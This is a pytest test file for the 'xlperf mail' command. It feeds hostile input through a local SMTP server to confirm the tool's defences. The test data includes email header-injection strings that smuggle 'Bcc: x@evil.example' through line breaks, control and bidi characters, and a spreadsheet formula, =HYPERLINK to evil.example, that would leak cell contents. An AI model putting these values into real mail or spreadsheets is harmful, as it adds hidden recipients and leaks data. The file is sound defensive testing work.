"""`xlperf mail` with hostile input (issue “Hostile input, second round”), against a real aiosmtpd
server on 127.0.0.1 as in test_mail: 电子邮箱 cells and options that are not just addresses, project
names with line breaks and control characters, spreadsheet formulas in the send log, a connection
lost after the whole message was sent, and one recipient's failure in a message with several."""
from __future__ import annotations

import csv
import dataclasses
import email
import json
import re
from email import policy
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from xlperf.export import MANIFEST_NAME, default_outdir
from xlperf.mail import (
    UNCONFIRMED,
    HostileAddressText,
    build_message,
    csv_escape,
    csv_unescape,
    format_address,
    message_bytes,
    send_log_path,
    send_mail,
    split_addresses,
)
from xlperf.template.seeds import SEED_004

from .test_mail import (  # noqa: F401  (isolated: the autouse fixture, no SMTP settings from this machine)
    Recorder,
    flat,
    free_port,
    isolated,
    make_exported,
    parse,
    run,
    use_plain_server,
    write_config,
)

EVIL = "x@evil.example"
TOP_HEADERS = {"subject", "from", "to", "cc", "date", "message-id", "x-unsent", "x-mailer", "mime-version",
               "content-type", "content-transfer-encoding"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def seed(name: str = "信息化运行维护", email_cell: str = "xxzx@example.cn"):
    return dataclasses.replace(SEED_004, name=name, meta={**SEED_004.meta, "email": email_cell})


def serve(handler):
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    return controller


@pytest.fixture
def server(monkeypatch):
    """A recording server (refuses bad@example.cn), used through the environment; (controller, handler)."""
    handler = Recorder(refuse={"bad@example.cn"})
    controller = serve(handler)
    use_plain_server(monkeypatch, controller)
    try:
        yield controller, handler
    finally:
        controller.stop()


def log_rows(book: Path, raw: bool = False) -> list[dict]:
    with open(send_log_path(book), encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    return rows if raw else [{k: csv_unescape(v) for k, v in row.items()} for row in rows]


def rcpts(handler) -> list[list[str]]:
    return [sorted(m["rcpt_tos"]) for m in handler.messages]


def assert_clean_message(raw: bytes) -> email.message.EmailMessage:
    """What a client reads: 7-bit, only our headers, none spanning lines (in any part)."""
    assert raw.isascii()
    msg = email.message_from_bytes(raw, policy=policy.default)
    assert {k.lower() for k in msg.keys()} <= TOP_HEADERS, msg.keys()
    for part in msg.walk():
        for key, value in part.items():
            assert "\r" not in str(value) and "\n" not in str(value), (key, str(value))
    return msg


def recipients_of(msg) -> list[str]:
    return [a.addr_spec for key in ("To", "Cc", "Bcc") if msg[key] is not None for a in msg[key].addresses]


# ---- 1. a cell holds addresses and only addresses ------------------------------------------
@pytest.mark.parametrize("cell, why", [
    (f"a@unit.cn\nBcc: {EVIL}", "“Bcc:”像是邮件头"),
    (f'"张三\r\nBcc: {EVIL}" <a@unit.cn>', "引号中的名称含有换行"),
    (f"a@unit.cn\r\nBcc:{EVIL}", "像是邮件头"),
    (f"张三\nBcc: {EVIL} <a@unit.cn>", "像是邮件头"),
    ("a@unit.cn\x85b@unit.cn", "控制字符"),
    ("a@unit.cn \u202eb@unit.cn", "控制字符"),
    (f"<a@unit.cn\n{EVIL}>", "尖括号"),
    (f"<a@unit.cn> {EVIL}", "引号或尖括号的用法无法识别"),
])
def test_cell_that_is_not_just_addresses_sends_nothing_for_its_project(tmp_path, server, cell, why):
    controller, handler = server
    book = make_exported(tmp_path, projects=[seed("信息化运行维护", cell), seed("档案数字化", "ok@example.cn")])
    result = run("mail", book, "--cc", "czj@example.cn")
    assert result.exit_code == 1, result.stdout + result.stderr
    assert rcpts(handler) == [["czj@example.cn", "ok@example.cn"]]  # the other project still goes
    err = flat(result.stderr)
    assert "项目清单!G2" in err and flat(why) in err and "未发送给任何人" in err
    assert "\x1b" not in result.stderr and "\x85" not in result.stderr and "\u202e" not in result.stderr
    assert all(row["项目名称"] != "信息化运行维护" for row in log_rows(book))

    dry = run("mail", book, "--dry-run", "--resend")
    assert dry.exit_code == 1 and "项目清单!G2" in flat(dry.stderr)
    (eml,) = (default_outdir(book) / "待发送邮件").glob("*.eml")
    assert "档案数字化" in eml.name


def test_mistyped_address_names_its_cell_and_the_others_still_get_it(tmp_path, server):
    controller, handler = server
    book = make_exported(tmp_path, projects=[seed(email_cell="not-an-address；ok@example.cn")])
    result = run("mail", book)
    assert result.exit_code == 1
    assert "项目清单!G2" in flat(result.stderr) and "“not-an-address”不是有效的邮箱地址" in flat(result.stderr)
    assert rcpts(handler) == [["ok@example.cn"]]


@pytest.mark.parametrize("option", ["--to", "--cc"])
@pytest.mark.parametrize("value", [f"a@unit.cn\nBcc: {EVIL}", f'"张三\r\nBcc: {EVIL}" <a@unit.cn>', "a@unit.cn\x00"])
def test_hostile_option_is_a_config_error(tmp_path, server, option, value):
    controller, handler = server
    book = make_exported(tmp_path)
    result = run("mail", book, option, value)
    assert result.exit_code == 2
    assert option in result.stderr and "除邮箱地址外还有其他内容" in flat(result.stderr)
    assert "Traceback" not in result.stdout + result.stderr and handler.messages == []


@pytest.mark.parametrize("key", ["to", "cc"])
def test_hostile_config_list_is_a_config_error(tmp_path, server, monkeypatch, key):
    controller, handler = server
    book = make_exported(tmp_path)
    write_config(book, f'[mail]\n{key} = ["czj@example.cn", "a@unit.cn\\r\\nBcc: {EVIL}"]\n')
    result = run("mail", book)
    assert result.exit_code == 2
    assert f"[mail] {key}" in result.stderr and "像是邮件头" in flat(result.stderr)
    assert handler.messages == []
    monkeypatch.delenv("XLPERF_MAIL_FROM")  # the environment would win over the file
    write_config(book, '[smtp]\nfrom = "工作组\\r\\nBcc: x@evil.example <jxzp@unit.example.cn>"\n')
    result = run("mail", book)
    assert result.exit_code == 2 and "发件人地址无效" in flat(result.stderr)


def test_address_lists():
    assert split_addresses('"Zhang, San" <a@x.cn>，b@x.cn\tc@x.cn\u200b') == ['"Zhang, San" <a@x.cn>', "b@x.cn", "c@x.cn"]
    assert split_addresses("a@x.cn\r\n\r\nb@x.cn") == ["a@x.cn", "b@x.cn"]  # Alt+Enter line breaks separate
    for text in (f"a@x.cn\nBcc: {EVIL}", f'"A\nB" <a@x.cn>', "a@x.cn\x1b[2J", '"a@x.cn', "<a@x.cn", "To:a@x.cn"):
        with pytest.raises(HostileAddressText):
            for item in split_addresses(text):
                format_address(item)
    with pytest.raises(ValueError) as typo:
        format_address("mailto:a@x.cn")
    assert not isinstance(typo.value, HostileAddressText)  # a typo, not an attack


# ---- 2. project names with line breaks and control characters ------------------------------------
HOSTILE_NAME = f"信息化\r\nBcc: {EVIL}\x85运维\u2028\t二期"


def test_project_name_with_line_breaks_and_control_characters(tmp_path, server):
    controller, handler = server
    book = make_exported(tmp_path, projects=[seed(HOSTILE_NAME)])
    manifest_path = default_outdir(book) / MANIFEST_NAME
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["projects"][0]["name"] = HOSTILE_NAME + "\x00\x1b[31m\ud800"  # as if the export kept it all
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")

    dry = run("mail", book, "--dry-run")
    assert dry.exit_code == 0, dry.stdout + dry.stderr
    (eml,) = (default_outdir(book) / "待发送邮件").glob("*.eml")
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", eml.name)
    msg = assert_clean_message(eml.read_bytes())
    assert msg["Subject"] == f"2020年度项目支出绩效自评表：信息化 Bcc: {EVIL} 运维 二期[31m（99.78分，优秀）"
    assert recipients_of(msg) == ["xxzx@example.cn"]
    (part,) = msg.iter_attachments()
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028]", part.get_filename())

    result = run("mail", book)
    assert result.exit_code == 0, result.stdout + result.stderr
    (message,) = handler.messages
    assert message["rcpt_tos"] == ["xxzx@example.cn"]
    msg = assert_clean_message(message["data"])
    assert recipients_of(msg) == ["xxzx@example.cn"]
    assert "\x1b" not in result.stdout + result.stderr
    (row,) = log_rows(book)
    assert row["结果"] == "已发送" and row["项目名称"] == f"信息化 Bcc: {EVIL} 运维 二期[31m"


def test_templates_with_line_breaks_give_one_line_subjects(tmp_path):
    book = make_exported(tmp_path)
    write_config(book, '[mail]\nsubject = """\n{项目名称}\r\nBcc: x@evil.example\n"""\n')
    result = run("mail", book, "--dry-run")
    assert result.exit_code == 0, result.stdout + result.stderr
    (eml,) = (default_outdir(book) / "待发送邮件").glob("*.eml")
    msg = assert_clean_message(eml.read_bytes())
    assert msg["Subject"] == f"信息化运行维护 Bcc: {EVIL}" and recipients_of(msg) == ["xxzx@example.cn"]


# ---- 3. the send log is not a spreadsheet of formulas ----------------------------------------------
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


def test_send_log_fields_are_never_formulas_and_read_back(tmp_path, server):
    controller, handler = server
    book = make_exported(tmp_path, projects=[seed(FORMULA_NAME, "-x@example.cn, +y@example.cn, bad@example.cn")])
    result = run("mail", book, "--cc", "=z@example.cn")
    assert result.exit_code == 1  # bad@example.cn is refused
    assert rcpts(handler) == [["+y@example.cn", "-x@example.cn", "=z@example.cn"]]
    raw = log_rows(book, raw=True)
    assert len(raw) == 4
    for row in raw:
        for value in row.values():
            assert not value.startswith(TRIGGERS), value
    by_addr = {row["收件人"]: row for row in raw}
    assert set(by_addr) == {"'-x@example.cn", "'+y@example.cn", "'=z@example.cn", "bad@example.cn"}
    assert by_addr["'-x@example.cn"]["项目名称"] == "'" + FORMULA_NAME
    assert by_addr["'-x@example.cn"]["附件"].startswith("'=HYPERLINK(")
    read = {row["收件人"]: row for row in log_rows(book)}
    assert read["-x@example.cn"]["项目名称"] == FORMULA_NAME and read["bad@example.cn"]["结果"] == "失败"

    again = run("mail", book, "--cc", "=z@example.cn")  # what was sent is recognised: only bad@ is tried again
    assert again.exit_code == 1
    assert len(handler.messages) == 1
    assert "3个收件人此前已发送过" in flat(again.stdout)


@given(st.text(st.characters(blacklist_categories=())))
@example("'=1+1")
@example("''")
@example("'")
def test_csv_escape_round_trip(text):
    escaped = csv_escape(text)
    assert not escaped.startswith(TRIGGERS)
    assert csv_unescape(escaped) == text


# ---- 4. a reply lost after the whole message was sent --------------------------------------------------
class DropAfterData(Recorder):
    """Takes the whole message, then closes the connection instead of replying (while drop is set)."""

    drop = True

    async def handle_DATA(self, server, session, envelope):
        if not self.drop:
            return await super().handle_DATA(server, session, envelope)
        await super().handle_DATA(server, session, envelope)
        server.transport.close()
        return "250 never heard"


def test_connection_lost_after_the_final_dot_is_unconfirmed_and_not_resent(tmp_path, monkeypatch):
    handler = DropAfterData()
    controller = serve(handler)
    try:
        use_plain_server(monkeypatch, controller)
        book = make_exported(tmp_path, email_cell="xxzx@example.cn")
        write_config(book, "[smtp]\nretries = 2\nretry_delay = 0\n")

        first = run("mail", book, "--cc", "czj@example.cn")
        assert first.exit_code == 1, first.stdout + first.stderr
        assert len(handler.messages) == 1  # received once, and not retried
        out = flat(first.stdout + first.stderr)
        assert "未确认" in out and "对方可能已经收到" in out and "--resend" in out
        rows = log_rows(book)
        assert [(r["收件人"], r["结果"]) for r in rows] == [("xxzx@example.cn", UNCONFIRMED), ("czj@example.cn", UNCONFIRMED)]
        assert "不会自动重发" in rows[0]["说明"]

        second = run("mail", book, "--cc", "czj@example.cn")
        assert second.exit_code == 0, second.stdout + second.stderr
        assert len(handler.messages) == 1  # not sent again
        out = flat(second.stdout + second.stderr)
        assert "2个收件人上次的发送结果未确认" in out and "本次没有重发" in out and "结果未确认，本次未重发" in out

        report = send_mail(book, cc=["czj@example.cn"], env={"XLPERF_SMTP_HOST": "127.0.0.1",
                                                             "XLPERF_SMTP_PORT": str(controller.port),
                                                             "XLPERF_SMTP_SECURITY": "none",
                                                             "XLPERF_MAIL_FROM": "jxzp@unit.example.cn"})
        assert report.deliveries == [] and len(report.unconfirmed_before) == 2 and report.sent == []

        handler.drop = False
        resent = run("mail", book, "--resend")
        assert resent.exit_code == 0, resent.stdout + resent.stderr
        assert len(handler.messages) == 2
        assert log_rows(book)[-1]["结果"] == "已发送"
        assert run("mail", book).exit_code == 0 and len(handler.messages) == 2
    finally:
        controller.stop()


def test_unconfirmed_in_the_report(tmp_path, monkeypatch):
    handler = DropAfterData()
    controller = serve(handler)
    try:
        book = make_exported(tmp_path)
        env = {"XLPERF_SMTP_HOST": "127.0.0.1", "XLPERF_SMTP_PORT": str(controller.port),
               "XLPERF_SMTP_SECURITY": "none", "XLPERF_MAIL_FROM": "jxzp@unit.example.cn"}
        report = send_mail(book, env=env, sleep=lambda s: None)
    finally:
        controller.stop()
    assert report.sent == [] and [(p, a) for p, a, _ in report.unconfirmed] == [("信息化运行维护", "xxzx@example.cn")]
    assert [f.reason.startswith("未确认") for f in report.failures] == [True]
    assert any("未确认" in w for w in report.warnings)


# ---- 5. one recipient's failure decides only that recipient ------------------------------------------
class Picky(Recorder):
    """Closes the session (421) at busy@example.cn's RCPT; rejects at DATA any message for quota@example.cn."""

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if address == "busy@example.cn":
            return "421 4.3.2 Service shutting down"
        return await super().handle_RCPT(server, session, envelope, address, rcpt_options)

    async def handle_DATA(self, server, session, envelope):
        if "quota@example.cn" in envelope.rcpt_tos:
            return "550 5.2.2 quota@example.cn: mailbox full"
        return await super().handle_DATA(server, session, envelope)


@pytest.fixture
def picky(monkeypatch):
    handler = Picky()
    controller = serve(handler)
    use_plain_server(monkeypatch, controller)
    try:
        yield handler
    finally:
        controller.stop()


def test_message_refused_at_data_because_of_one_recipient(tmp_path, picky):
    book = make_exported(tmp_path, email_cell="xxzx@example.cn；quota@example.cn")
    write_config(book, "[smtp]\nretry_delay = 0\n")
    result = run("mail", book, "--cc", "czj@example.cn")
    assert result.exit_code == 1
    assert sorted(rcpts(picky)) == [["czj@example.cn"], ["xxzx@example.cn"]]  # each then on its own
    rows = {r["收件人"]: r for r in log_rows(book)}
    assert {a: r["结果"] for a, r in rows.items()} == {"xxzx@example.cn": "已发送", "czj@example.cn": "已发送",
                                                      "quota@example.cn": "失败"}
    assert "550" in rows["quota@example.cn"]["说明"]
    err = flat(result.stderr)
    assert "1项未能发送" in err and "quota@example.cn" in err
    assert "已发送2个收件人" in flat(result.stdout)


def test_session_closed_at_one_recipient(tmp_path, picky):
    book = make_exported(tmp_path, email_cell="xxzx@example.cn, busy@example.cn, ok@example.cn")
    write_config(book, "[smtp]\nretries = 1\nretry_delay = 0\n")
    result = run("mail", book)
    assert result.exit_code == 1
    # what was accepted before the 421 was never delivered in that session: not reported as sent
    assert sorted(rcpts(picky)) == [["ok@example.cn"], ["xxzx@example.cn"]]
    rows = {r["收件人"]: r for r in log_rows(book)}
    assert {a: r["结果"] for a, r in rows.items()} == {"xxzx@example.cn": "已发送", "ok@example.cn": "已发送",
                                                      "busy@example.cn": "失败"}
    assert "421" in rows["busy@example.cn"]["说明"] and "已重试1次" in flat(rows["busy@example.cn"]["说明"])


# ---- property: generated text through `mail --dry-run` ----------------------------------------------------
ANY_TEXT = st.text(st.characters(blacklist_categories=()), max_size=40)  # all of Unicode, surrogates too
PIECES = st.sampled_from(["\r\n", "\n", "\r", "\t", " ", ",", "；", "、", '"', "<", ">", ":", "\\", "\x00", "\x1b",
                          "\x85", "\u2028", "\u202e", "\u200b", "Bcc: ", "To:", "=?utf-8?q?", "?=", "张三",
                          "a@unit.cn", "b@unit.cn", EVIL, "@", "＠", ".", "例子.中国", "(x)"])
HOSTILE_TEXT = st.one_of(ANY_TEXT, st.lists(st.one_of(PIECES, ANY_TEXT.map(lambda t: t[:3])), max_size=10).map("".join))
PROPERTY = settings(max_examples=60, deadline=None, derandomize=True,
                    phases=(Phase.explicit, Phase.reuse, Phase.generate),
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])


def _cell_as_stored(book: Path) -> str:
    import openpyxl
    wb = openpyxl.load_workbook(book, read_only=True)
    value = wb["项目清单"]["G2"].value
    wb.close()
    return "" if value is None else str(value)


def clean_cell_addresses(cell: str) -> set[str]:
    """The reference reading of a cell for the property: the addresses a person sees typed in it,
    leaving out lines shaped like a mail header (“Bcc: …”) and anything inside quotes (display
    names, or the rest of a line after an unpaired quote); IDN domains as punycode, lower-case."""
    found = set()
    for line in re.split(r"\r\n|[\r\n\x85\u2028\u2029]", cell):
        if re.match(r"\s*(?!mailto\s*:)[A-Za-z][A-Za-z0-9-]*\s*:", line, re.I):
            continue
        line = re.sub(r'"[^"]*("|$)', " ", line)
        for token in re.split(r"[\s,;，；、<>\u200b\u2060\ufeff]+", line):
            local, at, domain = token.rpartition("@")
            try:
                token = f"{local}@{domain.encode('idna').decode('ascii')}" if at and domain else token
            except UnicodeError:
                continue
            if re.fullmatch(r"[A-Za-z0-9!#$%&'*+/=?^_`{|}~.-]+@[A-Za-z0-9.-]+\.[A-Za-z0-9-]{2,}", token):
                found.add(token.lower())
    return found


def _drafts(book: Path) -> list[Path]:
    return sorted((default_outdir(book) / "待发送邮件").glob("*.eml"))


@PROPERTY
@given(name=HOSTILE_TEXT, manifest_name=HOSTILE_TEXT)
@example(name=HOSTILE_NAME, manifest_name=f"\x00\ud800\r\nBcc: {EVIL}")
def test_generated_project_names_through_dry_run(tmp_path_factory, name, manifest_name):
    book = make_exported(tmp_path_factory.mktemp("name"), projects=[seed(name, "xxzx@example.cn")])
    manifest_path = default_outdir(book) / MANIFEST_NAME
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["projects"][0]["name"] = manifest_name  # what no workbook cell can hold: C0 controls, surrogates
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    result = run("mail", book, "--dry-run")  # raises if xlperf raises
    assert result.exit_code == 0, result.stdout + result.stderr
    (eml,) = _drafts(book)
    msg = assert_clean_message(eml.read_bytes())
    assert recipients_of(msg) == ["xxzx@example.cn"]
    (part,) = msg.iter_attachments()
    assert part.get_filename() and not re.search(r"[\x00-\x1f\x7f-\x9f]", part.get_filename())


@PROPERTY
@given(cell=HOSTILE_TEXT)
@example(cell=f"a@unit.cn\nBcc: {EVIL}")
@example(cell=f'"张三\r\nBcc: {EVIL}" <a@unit.cn>')
@example(cell='"=?utf-8?q?x@evil.example?=" <a@unit.cn>, b@unit.cn')
def test_generated_email_cells_through_dry_run(tmp_path_factory, cell):
    book = make_exported(tmp_path_factory.mktemp("cell"), projects=[seed("信息化运行维护", cell)])
    stored = _cell_as_stored(book)
    result = run("mail", book, "--dry-run")  # raises if xlperf raises
    assert result.exit_code in (0, 1), result.stdout + result.stderr
    for eml in _drafts(book):
        msg = assert_clean_message(eml.read_bytes())
        got = recipients_of(msg)
        assert got and {a.lower() for a in got} <= clean_cell_addresses(stored), (stored, got)


@settings(max_examples=300, deadline=None)
@given(HOSTILE_TEXT)
def test_any_text_as_addresses_never_raises_anything_else(text):
    """Down to C0 controls and surrogates, which no workbook cell can hold: ValueError or clean addresses."""
    try:
        formatted = [format_address(item) for item in split_addresses(text)]
    except ValueError:
        return
    for f in formatted:
        msg = build_message(subject=text, body=text, sender=None, to=[f], cc=[], attachments=[])
        assert recipients_of(assert_clean_message(message_bytes(msg))) == [f.rpartition("<")[2].rstrip(">")]
